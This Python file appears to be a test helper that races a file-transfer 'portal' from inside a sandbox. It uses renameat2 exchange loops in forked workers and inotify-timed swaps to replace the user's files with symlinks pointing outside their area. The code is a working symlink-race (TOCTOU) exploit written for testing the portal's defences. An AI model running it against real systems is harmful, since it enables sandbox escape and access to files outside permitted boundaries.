"""The attacker: runs INSIDE a sandboxed task of the user (Debian's /usr/bin/python3, standard library
only) and swaps names of the user's own area for symlinks that lead out of it, as fast as it can.

    python3 swapper.py PLAN.json

PLAN (written by the test beside this file, in the area, before the task starts):
    {"seconds": 90, "count_file": ".attack/count", "workers": 2,
     "pairs":   [{"name": "dl.txt", "kind": "file", "content": "...", "target": "/abs/outside"},
                 {"name": "up", "kind": "dir", "files": {"a.txt": "..."}, "target": "/abs/dir"}],
     "inotify": [{"dir": "code", "files": {"main.py": "..."}, "targets": ["/abs/a", "/abs/b"]}]}

- `pairs`: a RENAME_EXCHANGE loop (in `workers` processes at once). `name` (a real file or folder)
  and a partner symlink to `target` trade places without pause, so the name is a real file one
  instant and a link out the next. What the portal deletes or empties is put back (a folder's
  `files` are kept present).
- `inotify`: a swap timed by the portal's own reads. The files of `dir` are swapped for links to
  `targets` the moment the portal has finished listing `dir` (IN_CLOSE_NOWRITE: it has seen real
  files and is about to copy them by name) and put back when it lists `dir` again (IN_OPEN).

Names are relative to the plan's folder's parent (the user's area). Swap counts go to
`count_file` (and `count_file`-worker-N, -inotify-N; JSON) a few times a second: the test checks
that the race was really run.
"""

import ctypes
import errno
import json
import os
import select
import struct
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}.get(os.uname().machine, 316)
IN_OPEN = 0x20
IN_CLOSE_NOWRITE = 0x10
IN_ISDIR = 0x40000000
EVENT = struct.Struct("iIII")

libc = ctypes.CDLL(None, use_errno=True)


def exchange(first: str, second: str) -> int:
    """0, or the errno of renameat2(first, second, RENAME_EXCHANGE)."""
    if libc.syscall(SYS_RENAMEAT2, AT_FDCWD, first.encode(), AT_FDCWD, second.encode(), RENAME_EXCHANGE) == 0:
        return 0
    return ctypes.get_errno()


def write_text(path: str, text: str) -> None:
    with open(path, "w") as out:
        out.write(text)


def make_real(pair: dict, where: str) -> None:
    if os.path.dirname(where):
        os.makedirs(os.path.dirname(where), exist_ok=True)
    if pair["kind"] == "file":
        write_text(where, pair.get("content", "innocent\n"))
        return
    os.makedirs(where, exist_ok=True)
    refill(pair, where)


def refill(pair: dict, where: str) -> None:
    """Put back what the portal removed from a real folder (it is where `where` says, or moved)."""
    for name, content in pair.get("files", {}).items():
        path = os.path.join(where, name)
        try:
            if not os.path.lexists(path):
                write_text(path, content)
        except OSError:
            pass  # swapped away meanwhile: next round


def repair(pair: dict) -> None:
    """One of the two names is gone (the portal deleted it): make it again, link or real."""
    name, partner = pair["name"], pair["partner"]
    for missing, other in ((name, partner), (partner, name)):
        if os.path.lexists(missing):
            continue
        try:
            if os.path.lexists(other) and not os.path.islink(other):
                os.symlink(pair["target"], missing)
            else:
                make_real(pair, missing)
        except OSError:
            pass


def real_location(pair: dict) -> str:
    return pair["partner"] if os.path.islink(pair["name"]) else pair["name"]


def write_count(path: str, counts: dict) -> None:
    partial = path + ".partial"
    write_text(partial, json.dumps(counts))
    os.replace(partial, path)


def set_up_pairs(pairs: list) -> None:
    for number, pair in enumerate(pairs):
        pair["partner"] = f".attack/swap-{number}"
        for path in (pair["name"], pair["partner"]):
            if os.path.lexists(path) and not os.path.isdir(path):
                os.unlink(path)
        make_real(pair, pair["name"])
        os.symlink(pair["target"], pair["partner"])


def exchange_loop(pairs: list, count_file: str, deadline: float) -> None:
    counts = {"swaps": 0, "repairs": 0}
    rounds = 0
    next_report = 0.0
    while True:
        for pair in pairs:
            if exchange(pair["name"], pair["partner"]) == 0:
                counts["swaps"] += 1
            else:
                counts["repairs"] += 1
                repair(pair)
        rounds += 1
        if rounds % 64 == 0:
            for pair in pairs:
                if pair["kind"] == "dir":
                    refill(pair, real_location(pair))
            now = time.monotonic()
            if now > deadline:
                return
            if now > next_report:
                write_count(count_file, counts)
                next_report = now + 0.1


def inotify_loop(watch: dict, count_file: str, deadline: float) -> None:
    """Swap the folder's files for links right after each listing of the folder, back at the next."""
    directory = watch["dir"]
    os.makedirs(directory, exist_ok=True)
    names = sorted(watch["files"])
    partners = []
    for number, name in enumerate(names):
        write_text(os.path.join(directory, name), watch["files"][name])
        partner = f".attack/ino-{os.path.basename(directory)}-{number}"
        if os.path.lexists(partner):
            os.unlink(partner)
        os.symlink(watch["targets"][number % len(watch["targets"])], partner)
        partners.append((os.path.join(directory, name), partner))
    watcher = libc.inotify_init()
    if libc.inotify_add_watch(watcher, directory.encode(), IN_OPEN | IN_CLOSE_NOWRITE) < 0:
        sys.exit(f"inotify_add_watch failed: errno {ctypes.get_errno()}")
    counts = {"swaps": 0, "listings": 0}
    swapped = False
    next_report = 0.0
    write_count(count_file, counts)
    while time.monotonic() < deadline:
        if not select.select([watcher], [], [], 0.2)[0]:
            write_count(count_file, counts)
            continue
        data = os.read(watcher, 65536)
        offset = 0
        while offset < len(data):
            _wd, mask, _cookie, length = EVENT.unpack_from(data, offset)
            offset += EVENT.size + length
            if length or not mask & IN_ISDIR:
                continue  # an event of a file inside, not of the folder itself
            if mask & IN_OPEN:
                counts["listings"] += 1
            wanted = bool(mask & IN_CLOSE_NOWRITE)  # listed: its files are about to be opened by name
            if wanted != swapped:
                for real, partner in partners:
                    if exchange(real, partner) == 0:
                        counts["swaps"] += 1
                swapped = wanted
        if time.monotonic() > next_report:
            write_count(count_file, counts)
            next_report = time.monotonic() + 0.1


def main() -> None:
    plan_path = os.path.abspath(sys.argv[1])
    with open(plan_path) as source:
        plan = json.load(source)
    os.chdir(os.path.dirname(os.path.dirname(plan_path)))  # the area
    deadline = time.monotonic() + plan.get("seconds", 90)
    count_file = plan["count_file"]
    children = []
    for number, watch in enumerate(plan.get("inotify", [])):
        pid = os.fork()
        if pid == 0:
            inotify_loop(watch, f"{count_file}-inotify-{number}", deadline)
            os._exit(0)
        children.append(pid)
    pairs = plan.get("pairs", [])
    set_up_pairs(pairs)
    for number in range(1, plan.get("workers", 1) if pairs else 0):
        pid = os.fork()  # more loops on the same pairs: more chances to run inside the portal's window
        if pid == 0:
            exchange_loop(pairs, f"{count_file}-worker-{number}", deadline)
            os._exit(0)
        children.append(pid)
    if pairs:
        exchange_loop(pairs, count_file, deadline)
    else:
        write_count(count_file, {"swaps": 0})
    for pid in children:
        os.waitpid(pid, 0)
    print("swapper done", flush=True)


if __name__ == "__main__":
    try:
        main()
    except OSError as exc:
        if exc.errno != errno.EINTR:
            raise
